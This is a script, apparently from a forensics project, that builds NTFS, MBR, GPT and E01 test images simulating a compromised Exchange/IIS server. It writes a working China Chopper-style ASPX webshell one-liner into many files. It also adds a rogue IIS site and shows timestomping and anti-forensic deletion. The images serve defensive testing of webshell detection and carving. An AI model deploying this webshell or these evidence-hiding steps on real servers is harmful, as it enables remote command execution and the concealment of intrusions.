#!/usr/bin/env bash
# make-test-images.sh [OUTDIR]
#
# Deterministic, idempotent recipe that builds the shellcarve NTFS test images
# with real tools (mkntfs, ntfs-3g over FUSE, sfdisk, ewfacquire) under a
# frozen libfaketime clock, and stores The Sleuth Kit's answers beside them.
#
#   OUTDIR defaults to <repo>/test-images.  See test-images/README.md for the
#   contents of every image and the facts tests may assert.
#
# Requirements: root, /dev/fuse, mkntfs + ntfs-3g (ntfs-3g package), libfaketime,
# attr (setfattr), fdisk (sfdisk), ewf-tools, sleuthkit, python3, gzip.
#
# Everything time-related is driven by a frozen fake clock: before each step the
# script writes "YYYY-MM-DD hh:mm:ss[.fffffff]" (UTC) into a timestamp file that
# the ntfs-3g daemon (running with LD_PRELOAD=libfaketime, FAKETIME_NO_CACHE=1)
# re-reads for every clock query.  ntfs-3g is single threaded and runs in the
# foreground (no_detach) as a child of this script, so it can be waited for.
set -euo pipefail
export TZ=UTC LC_ALL=C
umask 022

SCRIPT_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO_DIR=$(cd "$SCRIPT_DIR/.." && pwd)
OUTDIR=${1:-$REPO_DIR/test-images}
START_SECONDS=$SECONDS

die() { echo "make-test-images: error: $*" >&2; exit 1; }
log() { printf '[%3ds] %s\n' "$((SECONDS - START_SECONDS))" "$*"; }

# ----------------------------------------------------------------------------
# Preconditions
# ----------------------------------------------------------------------------
[ "$(id -u)" = 0 ] || die "must run as root (ntfs-3g needs FUSE mounts); try: sudo $0 ${1:-}"
[ -c /dev/fuse ] || die "/dev/fuse is missing: FUSE is required (modprobe fuse, or run the container with --device /dev/fuse --cap-add SYS_ADMIN)"
FAKETIME_LIB=""
for c in /usr/lib/x86_64-linux-gnu/faketime/libfaketimeMT.so.1 \
         /usr/lib/aarch64-linux-gnu/faketime/libfaketimeMT.so.1 \
         /usr/lib/faketime/libfaketimeMT.so.1 /usr/local/lib/faketime/libfaketimeMT.so.1; do
    if [ -e "$c" ]; then FAKETIME_LIB=$c; break; fi
done
[ -n "$FAKETIME_LIB" ] || die "libfaketimeMT.so.1 not found (apt-get install libfaketime)"
for t in mkntfs ntfs-3g setfattr sfdisk ewfacquire ewfverify ewfinfo fls istat ifind \
         fsstat mmls icat blkstat blkcat python3 gzip md5sum sha256sum mountpoint umount truncate dd; do
    command -v "$t" >/dev/null 2>&1 || die "required tool '$t' not found (apt-get install ntfs-3g libfaketime attr fdisk ewf-tools sleuthkit python3)"
done

mkdir -p "$OUTDIR"
OUTDIR=$(cd "$OUTDIR" && pwd)
WORK=$(mktemp -d /tmp/shellcarve-images.XXXXXX)
MNT=$WORK/mnt
TSFILE=$WORK/faketime.txt
NTFS_PID=""
mkdir -p "$MNT"

cleanup() {
    local rc=$?
    if mountpoint -q "$MNT" 2>/dev/null; then
        umount "$MNT" 2>/dev/null || umount -l "$MNT" 2>/dev/null || true
    fi
    if [ -n "$NTFS_PID" ]; then
        # give ntfs-3g a moment to flush after the unmount, then stop it
        for _ in 1 2 3 4 5 6 7 8 9 10; do kill -0 "$NTFS_PID" 2>/dev/null || break; sleep 0.2; done
        kill "$NTFS_PID" 2>/dev/null || true
        wait "$NTFS_PID" 2>/dev/null || true
    fi
    if [ -n "${KEEP_WORK:-}" ]; then echo "work directory kept: $WORK" >&2; else rm -rf "$WORK"; fi
    [ $rc = 0 ] || echo "make-test-images: FAILED (rc=$rc); outputs in $OUTDIR may be incomplete" >&2
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ----------------------------------------------------------------------------
# Frozen fake clock helpers
# ----------------------------------------------------------------------------
# at "2021-03-02 10:15:00.1234567": every later clock read returns exactly that
# (UTC).  Written atomically (rename) because the daemon re-reads it constantly.
# A 7-digit fraction gets "50" appended: libfaketime converts the fraction
# through a double and truncates to ns, so .1111111 would otherwise become
# 111111099 ns -> 1111110 NTFS ticks.
at() {
    local t=$1
    case $t in *.[0-9][0-9][0-9][0-9][0-9][0-9][0-9]) t=${t}50 ;; esac
    printf '%s\n' "$t" > "$TSFILE.tmp"; mv -f "$TSFILE.tmp" "$TSFILE"
}
ft() { LD_PRELOAD=$FAKETIME_LIB FAKETIME_TIMESTAMP_FILE=$TSFILE FAKETIME_NO_CACHE=1 "$@"; }

# mkfs_ntfs IMAGE SIZE LABEL HIDDEN_SECTORS
mkfs_ntfs() {
    rm -f "$1"; truncate -s "$2" "$1"
    ft mkntfs -F -Q -q -s 512 -c 4096 -p "$4" -H 255 -S 63 -L "$3" "$1" >>"$WORK/mkntfs.log" 2>&1 \
        || { cat "$WORK/mkntfs.log" >&2; die "mkntfs failed for $1"; }
}

ntfs_mount() {
    # no_detach: stay in the foreground as our child; noatime: reads never
    # change times; streams_interface=windows: "file:stream" names are ADS.
    ft ntfs-3g -o no_detach,noatime,streams_interface=windows "$1" "$MNT" >>"$WORK/ntfs-3g.log" 2>&1 &
    NTFS_PID=$!
    local i
    for i in $(seq 1 200); do
        mountpoint -q "$MNT" && return 0
        kill -0 "$NTFS_PID" 2>/dev/null || break
        sleep 0.05
    done
    cat "$WORK/ntfs-3g.log" >&2
    die "ntfs-3g could not mount $1 (is FUSE usable here?)"
}

ntfs_umount() {
    sync
    umount "$MNT"
    wait "$NTFS_PID" || die "ntfs-3g exited with an error (see above)"
    NTFS_PID=""
}

# Small python helpers (NTFS time conversion, $FN patching, content generation)
cat > "$WORK/helpers.py" <<'PYEOF'
import datetime, hashlib, os, struct, sys

EPOCH_DIFF = 11644473600  # seconds between 1601-01-01 and 1970-01-01

def filetime(s):
    """'YYYY-MM-DD hh:mm:ss[.fffffff]' (UTC) -> NTFS 100 ns ticks since 1601."""
    base, _, frac = s.partition('.')
    d = datetime.datetime.strptime(base, '%Y-%m-%d %H:%M:%S').replace(tzinfo=datetime.timezone.utc)
    ticks = int(d.timestamp() + EPOCH_DIFF) * 10**7
    if frac:
        ticks += int((frac + '0000000')[:7])
    return ticks

def set_ntfs_times(path, c, m, a):
    """ntfs-3g 'system.ntfs_times': creation, last write, last access (le64 each).
    ntfs-3g sets the $SI MFT-change time to 'now' and copies the values into $FN."""
    os.setxattr(path, 'system.ntfs_times', struct.pack('<3Q', filetime(c), filetime(m), filetime(a)))

class Vol:
    def __init__(self, path, offset=0):
        self.f = open(path, 'r+b')
        self.base = offset
        self.f.seek(offset)
        bs = self.f.read(512)
        assert bs[3:11] == b'NTFS    ', 'not an NTFS boot sector'
        self.bps = struct.unpack_from('<H', bs, 0x0B)[0]
        self.cluster = self.bps * bs[0x0D]
        self.mft_lcn = struct.unpack_from('<Q', bs, 0x30)[0]
        cpr = struct.unpack_from('<b', bs, 0x40)[0]
        self.recsize = cpr * self.cluster if cpr > 0 else 1 << -cpr
        self.mft_runs = None
        self.f.seek(self.base + self.mft_lcn * self.cluster)
        rec0 = self.unfix(bytearray(self.f.read(self.recsize)))
        self.mft_runs = self.runlist(self.find_attr(rec0, 0x80, b'')[0][1])

    def unfix(self, rec):
        assert rec[0:4] == b'FILE', 'bad MFT record magic'
        usa_ofs, usa_cnt = struct.unpack_from('<HH', rec, 4)
        usn = rec[usa_ofs:usa_ofs + 2]
        for i in range(1, usa_cnt):
            end = i * 512 - 2
            assert rec[end:end + 2] == usn, 'fixup mismatch'
            rec[end:end + 2] = rec[usa_ofs + 2 * i: usa_ofs + 2 * i + 2]
        return rec

    def refix(self, rec):
        usa_ofs, usa_cnt = struct.unpack_from('<HH', rec, 4)
        usn = rec[usa_ofs:usa_ofs + 2]
        for i in range(1, usa_cnt):
            end = i * 512 - 2
            rec[usa_ofs + 2 * i: usa_ofs + 2 * i + 2] = rec[end:end + 2]
            rec[end:end + 2] = usn
        return rec

    @staticmethod
    def find_attr(rec, atype, name=None):
        """[(attr_offset, attr_bytes)] of attributes of type atype."""
        out = []
        off = struct.unpack_from('<H', rec, 0x14)[0]
        while off + 8 <= len(rec):
            t, ln = struct.unpack_from('<II', rec, off)
            if t == 0xFFFFFFFF or ln == 0:
                break
            if t == atype:
                nlen, noff = rec[off + 9], struct.unpack_from('<H', rec, off + 10)[0]
                aname = bytes(rec[off + noff: off + noff + 2 * nlen])
                if name is None or aname == name:
                    out.append((off, bytes(rec[off:off + ln])))
            off += ln
        return out

    @staticmethod
    def runlist(attr):
        assert attr[8] == 1, 'expected non-resident attribute'
        p = struct.unpack_from('<H', attr, 0x20)[0]
        runs, lcn = [], 0
        while attr[p] != 0:
            h = attr[p]; lsz, osz = h & 15, h >> 4
            length = int.from_bytes(attr[p + 1:p + 1 + lsz], 'little')
            if osz:
                lcn += int.from_bytes(attr[p + 1 + lsz:p + 1 + lsz + osz], 'little', signed=True)
                runs.append((lcn, length))
            else:
                runs.append((None, length))
            p += 1 + lsz + osz
        return runs

    def record_offset(self, entry):
        vbyte = entry * self.recsize
        vcn, within = divmod(vbyte, self.cluster)
        for lcn, length in self.mft_runs:
            if vcn < length:
                assert lcn is not None
                return self.base + (lcn + vcn) * self.cluster + within
            vcn -= length
        raise ValueError('entry beyond $MFT')

    def read_record(self, entry):
        self.f.seek(self.record_offset(entry))
        return self.unfix(bytearray(self.f.read(self.recsize)))

    def write_record(self, entry, rec):
        self.f.seek(self.record_offset(entry))
        self.f.write(self.refix(rec))

def patch_fn_times(image, entry, fname, c, m, mft, a):
    """Rewrite the 4 times of the $FILE_NAME attribute called fname in MFT entry
    `entry` (the record itself only; index entries are left alone)."""
    v = Vol(image)
    rec = v.read_record(entry)
    hits = 0
    for off, attr in v.find_attr(rec, 0x30):
        assert attr[8] == 0
        coff = off + struct.unpack_from('<H', attr, 0x14)[0]
        nlen = rec[coff + 0x40]
        name = bytes(rec[coff + 0x42: coff + 0x42 + 2 * nlen]).decode('utf-16-le')
        if name == fname:
            struct.pack_into('<4Q', rec, coff + 8, filetime(c), filetime(m), filetime(mft), filetime(a))
            hits += 1
    assert hits == 1, 'expected exactly one $FILE_NAME %r in entry %d, found %d' % (fname, entry, hits)
    v.write_record(entry, rec)

def raw_record(image, entry, out):
    """The on-disk bytes of MFT record `entry` (update sequence applied, as stored)."""
    v = Vol(image)
    v.f.seek(v.record_offset(entry))
    with open(out, 'wb') as f:
        f.write(v.f.read(v.recsize))

def chunked_text(tag, idx, size):
    line = ('%s chunk %02d: the quick brown fox jumps over the lazy dog 0123456789\r\n' % (tag, idx)).encode()
    return (line * (size // len(line) + 1))[:size]

def write_fragmented(a, b, chunks, size):
    for i in range(chunks):
        for path, tag in ((a, 'frag_a'), (b, 'frag_b')):
            with open(path, 'ab') as f:
                f.write(chunked_text(tag, i, size))

def pseudo_random(path, size, seed=b'shellcarve-random-v1'):
    """SHA-256 counter mode: block i = sha256(seed + i as 8-byte LE)."""
    out = bytearray()
    i = 0
    while len(out) < size:
        out += hashlib.sha256(seed + i.to_bytes(8, 'little')).digest()
        i += 1
    with open(path, 'wb') as f:
        f.write(out[:size])

if __name__ == '__main__':
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == 'set_times':
        set_ntfs_times(*args)
    elif cmd == 'patch_fn':
        patch_fn_times(args[0], int(args[1]), args[2], *args[3:7])
    elif cmd == 'raw_record':
        raw_record(args[0], int(args[1]), args[2])
    elif cmd == 'fragmented':
        write_fragmented(args[0], args[1], int(args[2]), int(args[3]))
    elif cmd == 'random':
        pseudo_random(args[0], int(args[1]))
    elif cmd == 'filetime':
        print(filetime(args[0]))
    else:
        raise SystemExit('unknown helper ' + cmd)
PYEOF
py() { python3 "$WORK/helpers.py" "$@"; }

# Test strings
ONELINER='<%@ Page Language="Jscript"%><%eval(Request.Item["shellcarve_test"],"unsafe");%>'

# Other image recipes (scripts/make-carve-image.sh) source this file for the helpers above.
[ -z "${MAKE_TEST_IMAGES_HELPERS_ONLY:-}" ] || return 0

# ============================================================================
# 1. ntfs-basic.raw
# ============================================================================
build_ntfs_basic() {
    local img=$WORK/ntfs-basic.raw
    local WR=inetpub/wwwroot
    local AC=$WR/aspnet_client
    local SW=$AC/system_web/4_0_30319
    local OWA="Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
    log "ntfs-basic.raw: mkntfs"
    at "2021-02-26 08:00:00"                         # T0 format
    mkfs_ntfs "$img" 32M SHELLCARVE 0

    log "ntfs-basic.raw: session 1 (base content, attacker files)"
    ntfs_mount "$img"
    (
        cd "$MNT"
        at "2021-02-26 09:12:34.1111111"             # T1 IIS install
        mkdir -p "$WR"
        printf '%s\r\n' '<!DOCTYPE html>' '<html><head><title>IIS Windows Server</title></head>' \
            '<body><div id="container"><a href="https://go.microsoft.com/fwlink/?linkid=66138">' \
            '<img src="iisstart.png" alt="IIS" width="960" height="600" /></a></div></body></html>' > "$WR/iisstart.htm"
        at "2021-02-26 09:13:00.2222222"             # T2 ASP.NET client dirs, log dirs
        mkdir -p "$SW" inetpub/logs/LogFiles/W3SVC1 inetpub/temp
        at "2021-02-27 10:00:00.3333333"             # T3 Exchange install
        mkdir -p "$OWA"
        printf '%s\r\n' '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>' \
            '<!DOCTYPE html><html><head><title>Outlook</title></head>' \
            '<body><form action="/owa/auth.owa" method="POST"><input type="text" name="username" />' \
            '<input type="password" name="password" /><input type="submit" value="sign in" /></form></body></html>' \
            > "$OWA/logon.aspx"
        at "2021-02-27 10:00:05.4444444"             # T4 DOS name of "Program Files"
        setfattr -n system.ntfs_dos_name -v "PROGRA~1" "Program Files"
        at "2021-03-01 08:30:00.5555555"             # T5 user documents
        mkdir -p Users/Public/Documents Users/Public/Downloads
        printf 'Q1 2021 revenue figures - internal only\r\n' > "Users/Public/Documents/Quarterly Report 2021.txt"
        printf 'Отчёт о работе сервера за март 2021\r\n' > "Users/Public/Documents/отчёт.txt"
        at "2021-03-01 08:31:00.6666666"             # T6 DOS name of the report
        setfattr -n system.ntfs_dos_name -v "QUARTE~1.TXT" "Users/Public/Documents/Quarterly Report 2021.txt"
        at "2021-03-01 12:00:00.7777777"             # T7 victim file (entry later reused)
        printf 'victim file, deleted at T8\r\n' > inetpub/temp/victim.tmp
        at "2021-03-01 12:05:00.8888888"             # T8 delete victim, create reuser in the same entry
        rm inetpub/temp/victim.tmp
        printf 'reuser file, occupies the MFT entry of victim.tmp\r\n' > inetpub/temp/reuser.tmp
        at "2021-03-02 02:00:00.1234567"             # T9 interleaved appends -> fragmented files
        py fragmented inetpub/logs/frag_a.log inetpub/logs/frag_b.log 8 4096
        at "2021-03-03 03:14:15.9265358"             # T10 China Chopper in aspnet_client
        printf '%s' "$ONELINER" > "$SW/discover.aspx"
        at "2021-03-03 03:15:00.1010101"             # T11 planted errorEE.aspx in owa/auth
        printf '%s' "$ONELINER" > "$OWA/errorEE.aspx"
        at "2021-03-03 03:16:00.2020202"             # T12 hard link of discover.aspx into owa/auth
        ln "$SW/discover.aspx" "$OWA/OutlookEN.aspx"
        at "2021-03-03 03:17:00"                     # T13 whole-second creation time
        printf '%s' "$ONELINER" > "$AC/supp0rt.aspx"
        at "2021-03-03 03:18:00.3030303"             # T14 non-Latin-1 names
        printf '%s' "$ONELINER" > "$WR/测试.aspx"
        printf '%s' "$ONELINER" > "$AC/🐚shell.aspx"
        at "2021-03-03 03:19:00.4040404"             # T15 alternate data streams
        printf 'This folder is used by ASP.NET client scripts.\r\n' > "$AC/readme.txt"
        printf '%s' "$ONELINER" > "$AC/readme.txt:shell.aspx"
        # empty zip archive: end-of-central-directory record only (22 bytes)
        python3 -c 'import sys; sys.stdout.buffer.write(b"PK\x05\x06" + bytes(18))' > Users/Public/Downloads/tool.zip
        printf '[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=http://203.0.113.7/tool.zip\r\n' > Users/Public/Downloads/tool.zip:Zone.Identifier
        at "2021-03-03 03:25:10.5050505"             # T16 stomped.aspx really created
        printf '%s' "$ONELINER" > "$AC/stomped.aspx"
        at "2021-03-03 03:26:00.6060606"             # T17 files deleted later (T22)
        { printf '%s\r\n' "$ONELINER"
          for i in $(seq -w 1 48); do printf '<!-- shellcarve deleted shell padding line %s -->\r\n' "$i"; done
        } > "$AC/deleted_shell.aspx"
        mkdir "$AC/tmp_drop"
        printf '%s' "$ONELINER" > "$AC/tmp_drop/payload.aspx"
    )
    ntfs_umount

    log "ntfs-basic.raw: session 2 (ballast, 2100-entry dir, timestomp, deletions)"
    ntfs_mount "$img"
    (
        cd "$MNT"
        at "2021-03-03 04:00:00.7070707"             # T18 fill the volume with 1 MiB ballast files
        mkdir ballast
        local n=0
        while dd if=/dev/zero of="ballast/b$(printf %02d $n).bin" bs=1M count=1 status=none 2>/dev/null; do
            n=$((n + 1))
        done
        at "2021-03-03 04:01:00.8080808"             # T19 punch holes: delete 4 ballast files
        rm ballast/b04.bin ballast/b08.bin ballast/b12.bin ballast/b16.bin
        at "2021-03-03 04:02:00.9090909"             # T20 2100 empty files -> $MFT grows into the holes
        local i
        for i in $(seq -w 1 2100); do : > "inetpub/logs/LogFiles/W3SVC1/u_ex210303_$i.log"; done
        at "2021-03-04 09:00:00.1212121"             # T21 timestomp $SI of stomped.aspx back to 2019
        py set_times "$AC/stomped.aspx" "2019-06-15 12:34:56.7891234" "2019-06-15 12:34:56.7891234" "2019-06-15 12:34:56.7891234"
        at "2021-03-04 09:05:00.2323232"             # T22 anti-forensics: deletions
        rm "$AC/deleted_shell.aspx"
        rm -r "$AC/tmp_drop"
    )
    ntfs_umount

    # ntfs-3g copied the stomped times into the $FN of the MFT record; restore
    # the true creation moment (T16) there, as a $SI-only timestomp would leave it.
    local e
    e=$(ifind -n "/$AC/stomped.aspx" "$img")
    py patch_fn "$img" "$e" stomped.aspx "2021-03-03 03:25:10.5050505" "2021-03-03 03:25:10.5050505" \
        "2021-03-03 03:25:10.5050505" "2021-03-03 03:25:10.5050505"
}

# ============================================================================
# 2./3. partitioned disks
# ============================================================================
build_mbr() {
    local p1=$WORK/mbr-p1.ntfs p2=$WORK/mbr-p2.ntfs disk=$WORK/mbr-ntfs.raw
    log "mbr-ntfs.raw"
    at "2021-02-20 07:00:00"
    mkfs_ntfs "$p1" $((12288 * 512)) MBR-SYS 2048
    at "2021-02-20 07:00:30"
    mkfs_ntfs "$p2" $((16384 * 512)) MBR-DATA 14336
    ntfs_mount "$p1"
    (
        cd "$MNT"
        at "2021-02-20 07:10:00.1000001"
        mkdir -p Windows/System32/drivers/etc
        printf '127.0.0.1       localhost\r\n::1             localhost\r\n' > Windows/System32/drivers/etc/hosts
        printf 'hello from partition 1\r\n' > hello.txt
    )
    ntfs_umount
    ntfs_mount "$p2"
    (
        cd "$MNT"
        at "2021-03-03 05:00:00.2000002"
        mkdir -p inetpub/wwwroot/aspnet_client
        printf '%s' "$ONELINER" > inetpub/wwwroot/aspnet_client/shell.aspx
        printf 'data partition\r\n' > readme.txt
    )
    ntfs_umount
    rm -f "$disk"; truncate -s 16M "$disk"
    sfdisk -q --no-reread --no-tell-kernel "$disk" >/dev/null <<'EOF'
label: dos
label-id: 0x53434152
unit: sectors
start=2048, size=12288, type=7
start=14336, size=16384, type=7
EOF
    dd if="$p1" of="$disk" bs=512 seek=2048 conv=notrunc status=none
    dd if="$p2" of="$disk" bs=512 seek=14336 conv=notrunc status=none
}

build_gpt() {
    local p1=$WORK/gpt-p1.ntfs disk=$WORK/gpt-ntfs.raw
    log "gpt-ntfs.raw"
    at "2021-02-21 07:00:00"
    mkfs_ntfs "$p1" $((16384 * 512)) GPT-DATA 2048
    ntfs_mount "$p1"
    (
        cd "$MNT"
        at "2021-03-02 06:00:00.3000003"
        mkdir -p Users/Administrator/Desktop inetpub/wwwroot
        # 12 KiB, non-resident: its clusters hold the chunk corrupted in ewf-bad-chunk/
        python3 -c '
import sys
line = b"notes: rotate the exchange service account password; check owa/auth for new .aspx files\r\n"
sys.stdout.buffer.write((line * 200)[:12288])' > Users/Administrator/Desktop/notes.txt
        printf '%s' "$ONELINER" > inetpub/wwwroot/help.aspx
    )
    ntfs_umount
    rm -f "$disk"; truncate -s 10M "$disk"
    sfdisk -q --no-reread --no-tell-kernel "$disk" >/dev/null <<'EOF'
label: gpt
label-id: 5348454C-4C43-4152-5645-000000000001
unit: sectors
first-lba: 34
start=2048, size=16384, type=EBD0A0A2-B9E5-4433-87C0-68B6B72699C7, uuid=5348454C-4C43-4152-5645-000000000002, name="Basic data partition"
EOF
    dd if="$p1" of="$disk" bs=512 seek=2048 conv=notrunc status=none
}

# ============================================================================
# 6. iis-config.raw: a web root that only applicationHost.config reveals
# ============================================================================
build_iis_config() {
    local img=$WORK/iis-config.raw
    local CFG=Windows/System32/inetsrv/config
    log "iis-config.raw"
    at "2021-04-01 07:00:00"                         # I0 format
    mkfs_ntfs "$img" 12M IIS-CONFIG 0
    ntfs_mount "$img"
    (
        cd "$MNT"
        at "2021-04-01 08:00:00.1111111"             # I1 IIS install: config with the default site + OWA app
        mkdir -p "$CFG" inetpub/wwwroot
        iis_config default > "$CFG/applicationHost.config"
        at "2021-04-02 09:30:00.2222222"             # I2 benign site content
        printf '%s\r\n' '<!DOCTYPE html>' '<html><head><title>Contoso</title>' \
            '<script>var x = eval("1+1"); document.title = "Contoso " + x;</script>' \
            '</head><body><h1>Contoso intranet</h1><a href="contact.aspx?id=1">Contact</a></body></html>' \
            > inetpub/wwwroot/index.html
        printf '%s\r\n' '<%@ Page Language="C#" %>' \
            '<script runat="server">' \
            'protected void Page_Load(object sender, EventArgs e)' \
            '{' \
            '    string email = Request.Form["email"];' \
            '    string id = Request.QueryString["id"];' \
            '    if (!String.IsNullOrEmpty(email))' \
            '        Response.Write("<p>Thank you, " + Server.HtmlEncode(email) + ".</p>");' \
            '    Response.Write("<p>Ticket " + Server.HtmlEncode(id ?? "") + "</p>");' \
            '}' \
            '</script>' \
            '<html><head><title>Contact</title></head><body>' \
            '<form method="post"><input type="text" name="email" /><input type="submit" value="Send" /></form>' \
            '</body></html>' > inetpub/wwwroot/contact.aspx
        at "2021-04-05 02:10:00.3333333"             # I3 attacker: folder outside the web roots + shell
        mkdir -p ProgramData/Sync/web
        printf '%s' "$ONELINER" > ProgramData/Sync/web/health.aspx
        at "2021-04-05 02:11:00.4444444"             # I4 attacker: site "Backup" added to the config
        iis_config backup > "$CFG/applicationHost.config"
    )
    ntfs_umount
}

# ============================================================================
# 7. carve-records.raw: names left in $I30 slack, a FILE record and INDX records
#    in free clusters
# ============================================================================
build_carve_records() {
    local img=$WORK/carve-records.raw
    local AC=inetpub/wwwroot/aspnet_client UP=inetpub/wwwroot/uploads OLD=inetpub/wwwroot/old_site
    log "carve-records.raw"
    at "2021-05-01 07:00:00"                         # R0 format
    mkfs_ntfs "$img" 8M CARVE-REC 0
    ntfs_mount "$img"
    (
        cd "$MNT"
        at "2021-05-02 10:00:00.1111111"             # R1 site content: 80 uploads, an old site
        mkdir -p "$AC" "$UP" "$OLD" inetpub/temp
        for i in $(seq -w 1 80); do printf 'upload %s\r\n' "$i" > "$UP/doc_0$i.txt"; done
        for i in $(seq -w 1 60); do printf 'old page %s\r\n' "$i" > "$OLD/page_0$i.htm"; done
        at "2021-05-03 11:00:00.2222222"             # R2 attacker: two shells
        printf '%s' "$ONELINER" > "$UP/zz_shell.aspx"
        printf '%s' "$ONELINER" > "$AC/gone.aspx"
    )
    ntfs_umount
    # the FILE record of gone.aspx as stored (its copy ends up in a free cluster below)
    py raw_record "$img" "$(ifind -n /$AC/gone.aspx "$img")" "$WORK/gone.rec"
    ntfs_mount "$img"
    (
        cd "$MNT"
        at "2021-05-04 12:00:00.3333333"             # R3 clean-up: shells and one upload removed,
        rm "$UP/zz_shell.aspx" "$AC/gone.aspx" "$UP/doc_013.txt"
        for i in 1 2 3; do printf 'log %s\r\n' "$i" > "inetpub/temp/new_$i.log"; done  # reusing their entries
        at "2021-05-04 12:01:00.4444444"             # R4 a copy of gone.aspx's record, deleted: its cluster is free
        cp "$WORK/gone.rec" inetpub/temp/cache.bin
        rm inetpub/temp/cache.bin
        at "2021-05-04 12:02:00.5555555"             # R5 the old site removed: its INDX clusters are free
        rm -r "$OLD"
    )
    ntfs_umount
}

# iis_config default|backup: applicationHost.config (CRLF) as IIS 10 writes it,
# trimmed; "backup" adds the attacker's site "Backup" on C:\ProgramData\Sync\web.
iis_config() {
    {
        cat <<'EOF'
<?xml version="1.0" encoding="UTF-8"?>
<!--

    IIS configuration sections.

    For schema documentation, see
    %windir%\system32\inetsrv\config\schema\IIS_schema.xml.

-->
<configuration>
    <configSections>
        <sectionGroup name="system.applicationHost">
            <section name="applicationPools" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
            <section name="log" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
            <section name="sites" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
            <section name="webLimits" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
        </sectionGroup>
    </configSections>
    <system.applicationHost>
        <applicationPools>
            <add name="DefaultAppPool" />
            <add name="MSExchangeOWAAppPool" managedRuntimeVersion="v4.0">
                <processModel identityType="LocalSystem" />
            </add>
EOF
        if [ "$1" = backup ]; then cat <<'EOF'
            <add name="SyncPool" managedRuntimeVersion="v4.0">
                <processModel identityType="LocalSystem" />
            </add>
EOF
        fi
        cat <<'EOF'
            <applicationPoolDefaults managedRuntimeVersion="v4.0">
                <processModel identityType="ApplicationPoolIdentity" />
            </applicationPoolDefaults>
        </applicationPools>
        <sites>
            <site name="Default Web Site" id="1" serverAutoStart="true">
                <application path="/" applicationPool="DefaultAppPool">
                    <virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" />
                </application>
                <application path="/owa" applicationPool="MSExchangeOWAAppPool">
                    <virtualDirectory path="/" physicalPath="C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa" />
                </application>
                <bindings>
                    <binding protocol="http" bindingInformation="*:80:" />
                    <binding protocol="https" bindingInformation="*:443:" />
                </bindings>
            </site>
EOF
        if [ "$1" = backup ]; then cat <<'EOF'
            <site name="Backup" id="2" serverAutoStart="true">
                <application path="/" applicationPool="SyncPool">
                    <virtualDirectory path="/" physicalPath="C:\ProgramData\Sync\web" />
                </application>
                <bindings>
                    <binding protocol="http" bindingInformation="*:8081:" />
                </bindings>
            </site>
EOF
        fi
        cat <<'EOF'
            <siteDefaults>
                <logFile logFormat="W3C" directory="%SystemDrive%\inetpub\logs\LogFiles" />
                <traceFailedRequestsLogging directory="%SystemDrive%\inetpub\logs\FailedReqLogFiles" />
            </siteDefaults>
            <applicationDefaults applicationPool="DefaultAppPool" />
            <virtualDirectoryDefaults allowSubDirConfig="true" />
        </sites>
        <webLimits />
    </system.applicationHost>
</configuration>
EOF
    } | sed 's/$/\r/'
}

# ============================================================================
# 4. E01 sets
# ============================================================================
# ewf_acquire SRC TARGET SEGMENT_SIZE EVIDENCE DESCRIPTION NOTES
ewf_acquire() {
    at "2021-03-05 14:00:00"
    ft ewfacquire -u -q -t "$2" -S "$3" -c empty-block -f encase6 -b 64 -m fixed -M physical \
        -C "CASE-2021-0042" -E "$4" -e "J. Examiner" -D "$5" -N "$6" "$1" >"$WORK/ewfacquire.log" 2>&1 \
        || { cat "$WORK/ewfacquire.log" >&2; die "ewfacquire failed for $1"; }
}

# ============================================================================
# Build
# ============================================================================
build_ntfs_basic
build_mbr
build_gpt
build_iis_config
build_carve_records

log "E01 sets"
mkdir -p "$WORK/ewf"
ewf_acquire "$WORK/ntfs-basic.raw" "$WORK/ewf/ntfs-basic" 1433600 EV-7 "Exchange server C: volume" "shellcarve test image"
ewf_acquire "$WORK/gpt-ntfs.raw" "$WORK/ewf/gpt-ntfs" 1048576 EV-8 "GPT data disk" "shellcarve test image"
nseg=$(ls "$WORK/ewf"/ntfs-basic.E* | wc -l)
[ "$nseg" -ge 3 ] || die "ntfs-basic E01 set has only $nseg segments"
[ "$(ls "$WORK/ewf"/gpt-ntfs.E* | wc -l)" = 1 ] || die "gpt-ntfs E01 should be one segment"

log "corrupted variants"
mkdir -p "$WORK/bad/ewf-missing-segment" "$WORK/bad/ewf-bad-chunk"
for f in "$WORK/ewf"/ntfs-basic.E*; do
    case $f in *.E02) ;; *) cp "$f" "$WORK/bad/ewf-missing-segment/" ;; esac
done
cp "$WORK/ewf/gpt-ntfs.E01" "$WORK/bad/ewf-bad-chunk/gpt-ntfs.E01"
# Flip 16 bytes of the first data cluster of notes.txt inside the stored
# (uncompressed) chunk.  The chunk is located by searching its exact bytes.
notes_e=$(ifind -o 2048 -n /Users/Administrator/Desktop/notes.txt "$WORK/gpt-ntfs.raw")
notes_lcn=$(istat -r -o 2048 "$WORK/gpt-ntfs.raw" "$notes_e" | sed -n 's/.*Starting address: \([0-9]*\),.*/\1/p' | head -1)
BAD_MEDIA_OFFSET=$(( 2048 * 512 + notes_lcn * 4096 ))
BAD_CHUNK_OFFSET=$(python3 - "$WORK/gpt-ntfs.raw" "$WORK/bad/ewf-bad-chunk/gpt-ntfs.E01" "$BAD_MEDIA_OFFSET" <<'PYEOF'
import sys
raw, e01, off = sys.argv[1], sys.argv[2], int(sys.argv[3])
CH = 64 * 512
cstart = off // CH * CH
data = open(raw, 'rb').read()[cstart:cstart + CH]
assert len(set(data)) > 1, 'chunk is uniform (stored compressed)'
ewf = bytearray(open(e01, 'rb').read())
pos = ewf.find(data)
assert pos >= 0 and ewf.find(data, pos + 1) < 0, 'chunk not found exactly once'
flip = pos + (off - cstart)
for i in range(16):
    ewf[flip + i] ^= 0xFF
open(e01, 'wb').write(ewf)
print(cstart)
PYEOF
)

# truncated copies: (a) inside the first $MFT run: records 0..89 complete,
# record 90 (frag_a.log) cut after its first 512-byte sector; (b) at half size.
